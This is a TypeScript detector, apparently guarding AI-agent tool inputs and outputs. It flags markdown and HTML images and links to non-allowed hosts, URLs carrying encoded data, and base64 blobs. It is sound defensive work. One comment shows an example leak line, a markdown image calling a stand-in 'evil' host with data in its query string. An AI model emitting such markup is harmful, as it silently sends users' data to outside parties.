import { hostAllowed, targetHost } from '../../policies';
import { stringsIn } from './hiddenText';

export interface ExfilHit {
  kind: 'markdown_image' | 'markdown_link' | 'html_image' | 'encoded_url_data' | 'base64_blob';
  host: string | null;
  /** True when the URL or blob carries encoded data (what turns a link into a leak). */
  carriesData: boolean;
  detail: string;
}

// Markdown images load without a click: `![x](https://evil/?d=…)` in anything a client renders leaks the query string.
const MD_IMAGE = /!\s*\[[^\]]{0,200}\]\s*\(\s*<?\s*([a-z][a-z0-9+.-]*:\/\/[^\s)>]+)/gi;
const MD_LINK = /(?<!!)\[[^\]]{0,200}\]\s*\(\s*<?\s*([a-z][a-z0-9+.-]*:\/\/[^\s)>]+)/gi;
const MD_REFERENCE = /^\s*\[[^\]]{1,100}\]:\s*<?([a-z][a-z0-9+.-]*:\/\/\S+)/gim;
const HTML_IMAGE = /<\s*img\b[^>]*?\bsrc\s*=\s*["']?([a-z][a-z0-9+.-]*:\/\/[^"'\s>]+)/gi;
const BARE_URL = /\bhttps?:\/\/[^\s"'<>)\]]+/gi;
const BASE64_BLOB = /[A-Za-z0-9+/]{200,}={0,2}|[A-Za-z0-9_-]{200,}/g;

/** A URL part that looks like encoded data rather than a word or an id: long, and mixed like base64 or long hex. */
export function looksEncoded(part: string): boolean {
  let value = part;
  try {
    value = decodeURIComponent(part);
  } catch { /* keep as sent */ }
  if (value.length < 24) return false;
  if (/^[0-9a-f]{32,}$/i.test(value)) return value.length >= 40;
  if (!/^[A-Za-z0-9+/=_-]+$/.test(value)) return value.length >= 64 && /%[0-9a-f]{2}/i.test(part);
  return /[A-Z]/.test(value) && /[a-z]/.test(value) && /[0-9]/.test(value);
}

function urlCarriesData(raw: string): boolean {
  try {
    const url = new URL(raw);
    for (const [, value] of url.searchParams) if (looksEncoded(value)) return true;
    return url.pathname.split('/').some(looksEncoded) || looksEncoded(url.hash.slice(1));
  } catch {
    return false;
  }
}

/**
 * Exfiltration markup in any string of a JSON value: markdown/HTML images and links pointing
 * outside `allowedHosts` (images always count — they load by themselves; links only with data in
 * the URL), bare URLs to outside hosts carrying encoded data, and (in `checkBlobs` mode, for
 * outgoing arguments) base64 blobs of 200+ characters. Text is NFKC-folded first so full-width
 * brackets and zero-width characters inside the markup do not hide it.
 */
export function findExfilMarkup(value: unknown, allowedHosts: readonly string[], options: { checkBlobs?: boolean } = {}): ExfilHit[] {
  const hits: ExfilHit[] = [];
  const seen = new Set<string>();
  const outside = (url: string) => {
    const host = targetHost(url);
    return { host, outside: !host || !hostAllowed(host, allowedHosts) };
  };
  for (const raw of stringsIn(value)) {
    if (raw.length < 10) continue;
    // fold() lower-cases; URLs keep their case for the data check, so only normalise width and invisibles here.
    const text = raw.normalize('NFKC').replace(/[\u200B-\u200D\u2060\uFEFF\u00AD]/g, '');
    const add = (hit: ExfilHit, key: string) => {
      if (!seen.has(key)) {
        seen.add(key);
        hits.push(hit);
      }
    };
    for (const [pattern, kind] of [[MD_IMAGE, 'markdown_image'], [HTML_IMAGE, 'html_image'], [MD_LINK, 'markdown_link'], [MD_REFERENCE, 'markdown_link']] as const) {
      for (const match of text.matchAll(pattern)) {
        const url = match[1]!;
        const { host, outside: isOutside } = outside(url);
        const carriesData = urlCarriesData(url);
        if (!isOutside || (kind === 'markdown_link' && !carriesData)) continue;
        add({ kind, host, carriesData, detail: url.slice(0, 160) }, url);
      }
    }
    for (const match of text.matchAll(BARE_URL)) {
      const url = match[0];
      if (seen.has(url) || !urlCarriesData(url)) continue;
      const { host, outside: isOutside } = outside(url);
      if (isOutside) add({ kind: 'encoded_url_data', host, carriesData: true, detail: url.slice(0, 160) }, url);
    }
    if (options.checkBlobs) {
      for (const match of text.matchAll(BASE64_BLOB)) {
        if (!looksEncoded(match[0].slice(0, 400))) continue;
        add({ kind: 'base64_blob', host: null, carriesData: true, detail: `${match[0].length} characters of base64` }, `blob:${match[0].slice(0, 64)}`);
      }
    }
    if (hits.length >= 10) break;
  }
  return hits;
}

